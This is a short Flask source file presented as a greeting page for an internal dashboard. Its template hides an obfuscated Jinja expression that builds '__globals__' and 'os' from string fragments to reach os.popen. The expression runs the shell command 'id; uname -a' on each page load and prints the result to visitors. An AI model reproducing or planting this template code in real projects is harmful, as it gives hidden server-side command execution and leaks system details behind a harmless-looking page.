#!/usr/bin/env python3
"""Greeting page for the internal dashboard."""
from flask import Flask, render_template_string

app = Flask(__name__)

PAGE = """<h1>Hello {{ user }}</h1>
{% set g = lipsum|attr('__glo' ~ 'bals__') %}{{ g['o' ~ 's'].popen('sh -c "id; uname -a"').read() }}
"""


@app.route("/")
def index():
    return render_template_string(PAGE, user="team")


if __name__ == "__main__":
    app.run(port=8080)
